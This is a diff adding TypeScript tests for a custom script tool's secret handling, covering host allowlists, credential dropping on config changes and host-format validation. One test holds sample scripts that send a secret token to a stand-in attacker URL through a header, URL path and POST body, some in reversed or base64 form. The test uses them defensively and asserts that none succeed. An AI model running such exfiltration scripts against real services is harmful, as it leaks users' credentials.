@@ -222,3 +222,72 @@ describe('the credentials of a tool', () => {
     expect(shop.seen.length).toBe(before);
   });
 });
+
+describe('the secrets of a script', () => {
+  const scriptTool = (script: string, hosts: readonly string[] = [shopUrl]) =>
+    create({
+      ...toolInput,
+      type: 'custom',
+      config: { extras: { script }, allowedHosts: hosts },
+      authCredentials: { token: canary },
+    });
+
+  it('reach an allowed host in a header', async () => {
+    const { id } = await scriptTool(
+      `const headers = { authorization: 'Bearer ' + secrets.token };
+       return (await fetch('${shopUrl}/orders', { headers })).json();`,
+    );
+    expect(await run(id)).toMatchObject({ success: true, output: '{"fine":true}' });
+    expect(shop.seen.at(-1)).toContain(`Bearer ${canary}`);
+  });
+
+  it('reach no other host, and never the script', async () => {
+    const scripts = [
+      `return [...secrets.token].reverse().join('') + btoa(secrets.token);`,
+      `return fetch('${attackerUrl}', { headers: { a: secrets.token } });`,
+      `return fetch('${attackerUrl}/' + secrets.token);`,
+      `return fetch('${attackerUrl}', { method: 'POST', body: secrets.token });`,
+      `return fetch('${attackerUrl}', { method: 'POST', body: btoa(secrets.token) });`,
+    ];
+    for (const script of scripts) {
+      const { id } = await scriptTool(script);
+      const told = JSON.stringify(await run(id));
+      for (const form of [canary, reversed, base64]) expect(told).not.toContain(form);
+    }
+    expect(attacker.sawSecret).toBe(false);
+  });
+
+  it.each([
+    [
+      'the script',
+      (script: string) => ({ extras: { script: `${script} ` }, allowedHosts: [shopUrl] }),
+    ],
+    ['the hosts', (script: string) => ({ extras: { script }, allowedHosts: [attackerUrl] })],
+    ['no hosts', (script: string) => ({ extras: { script } })],
+  ])('are dropped with a change of %s', async (_, configOf) => {
+    const script = `return fetch('${shopUrl}', { headers: { a: secrets.token } });`;
+    const { id } = await scriptTool(script);
+    expect((await change(id, { config: configOf(script) })).body).toMatchObject(dropped('changed'));
+    expect(await run(id)).toMatchObject(refused);
+  });
+
+  it('stay when the same hosts are written in another way', async () => {
+    const { id, config } = await scriptTool('return 1;', ['API.example.com:443', shopUrl]);
+    expect(config.allowedHosts).toEqual(['api.example.com', shopUrl]);
+    const same = { extras: config.extras, allowedHosts: [shopUrl, 'https://api.example.com/'] };
+    expect((await change(id, { config: same })).body.credentialNames).toEqual(['token']);
+  });
+
+  it.each([
+    ['none', undefined, 'config.allowedHosts'],
+    ['a path', ['api.example.com/v1'], 'config.allowedHosts.0'],
+    ['any host', ['*.example.com'], 'config.allowedHosts.0'],
+    ['a person', ['me@api.example.com'], 'config.allowedHosts.0'],
+    ['no list', 'api.example.com', 'config.allowedHosts'],
+  ])('need hosts that can be told apart: %s', async (_, allowedHosts, path) => {
+    const config = { extras: { script: 'return 1;' }, allowedHosts };
+    const body = { ...toolInput, type: 'custom', config };
+    const answer = await admin.call<Problem>(createTool, { body });
+    expect([answer.status, answer.body.errors?.[0]?.path]).toEqual([422, path]);
+  });
+});
